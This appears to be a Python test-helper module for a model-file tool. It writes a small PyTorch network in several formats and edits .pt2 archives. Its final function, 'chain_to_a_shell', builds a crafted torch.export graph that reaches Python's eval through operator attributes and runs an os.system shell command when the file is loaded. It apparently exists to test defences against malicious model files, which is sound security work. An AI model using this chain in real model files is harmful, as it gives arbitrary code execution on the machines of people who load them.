"""Files of a small network, and what can be done to them."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch import nn

from widemargin.io.export import write_network

SHAPE = (1, 8, 8)
Json = dict[str, Any]


def network() -> nn.Module:
    """Small enough to be read a thousand times; takes the embedded digits."""
    torch.manual_seed(0)
    return nn.Sequential(nn.Conv2d(1, 2, 3), nn.BatchNorm2d(2), nn.ReLU(), nn.Flatten(), nn.Linear(72, 10)).eval()


def write_all(folder: Path) -> None:
    """One of every format."""
    for suffix in (".pt2", ".onnx", ".safetensors"):
        write_network(network(), SHAPE, folder / f"model{suffix}")
    (folder / "own.py").write_text(
        "from torch import nn\n\n\ndef net():\n    return nn.Sequential("
        "nn.Conv2d(1, 2, 3), nn.BatchNorm2d(2), nn.ReLU(), nn.Flatten(), nn.Linear(72, 10))\n"
    )


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(to: Path, content: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> str:
    with zipfile.ZipFile(to, "w", compression) as archive:
        for name, value in content.items():
            archive.writestr(name, value)
    return str(to)


def edited(path: Path, edit: Callable[[Json], None], end: str = "models/model.json") -> str:
    """The archive with one of its JSON files changed."""
    content = parts(path)
    (name,) = [name for name in content if name.endswith(end)]
    program = json.loads(content[name])
    edit(program)
    return zipped(path.with_name("edited.pt2"), {**content, name: json.dumps(program).encode()})


def node(target: str, output: str, *arguments: Any, **named: Any) -> Json:
    """Of torch.export's graph: text that names a value is that value, other text is itself."""
    inputs = [{"name": f"a{i}", "arg": argument, "kind": 1} for i, argument in enumerate(arguments)]
    inputs += [{"name": name, "arg": argument, "kind": 2} for name, argument in named.items()]
    return {"target": target, "inputs": inputs, "outputs": [{"as_tensor": {"name": output}}], "metadata": {}}


def value(name: str) -> Json:
    return {"as_tensor": {"name": name}}


def text(said: str) -> Json:
    return {"as_string": said}


def first(*nodes: Json) -> Callable[[Json], None]:
    """Runs them before anything else."""

    def edit(program: Json) -> None:
        program["graph_module"]["graph"]["nodes"][:0] = nodes

    return edit


def chain_to_a_shell(command: str) -> Callable[[Json], None]:
    """From an operator's attributes to Python's own `eval`, if a file could name them."""
    sgn, item = "torch.ops.aten.sgn", "_operator.getitem"
    return first(
        node(f"{sgn}.__getattribute__", "method", text("__call__")),
        node(f"{sgn}.__setattr__", "none", text("_op"), value("method")),
        node(f"{sgn}.__getattr__", "everything", text("__globals__")),
        node(item, "builtins", value("everything"), text("__builtins__")),
        node(item, "eval", value("builtins"), text("eval")),
        node(f"{sgn}.__setattr__", "none2", text("_op"), value("eval")),
        node(f"{sgn}.__call__", "run", text(f"__import__('os').system({command!r})")),
    )
